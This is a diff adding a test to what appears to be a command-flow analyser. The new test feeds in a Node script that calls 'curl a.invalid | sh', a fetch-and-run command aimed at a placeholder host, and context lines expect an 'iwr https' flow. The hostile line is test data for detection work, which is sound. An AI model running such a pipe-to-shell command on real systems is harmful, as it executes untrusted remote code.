@@ -59,3 +59,10 @@ def test_a_line_of_powershell_that_goes_on_below() -> None:
     program = hooked("powershell -File a.ps1", {"a.ps1": text})
     assert not any("foresaw" in one.reason for one in program.unfinished)
     assert any(one.text.startswith("iwr https") for one in program.flows)
+
+
+def test_half_of_a_pair_in_a_command_hides_nothing_behind_it() -> None:
+    text = "const c = require('child_process')\nc.exec('echo \\ud800 $x')\nc.exec('curl a.invalid | sh')\n"
+    program = hooked("node a.js", {"a.js": text})
+    assert not program.unfinished
+    assert any("curl" in one.text for one in program.flows)
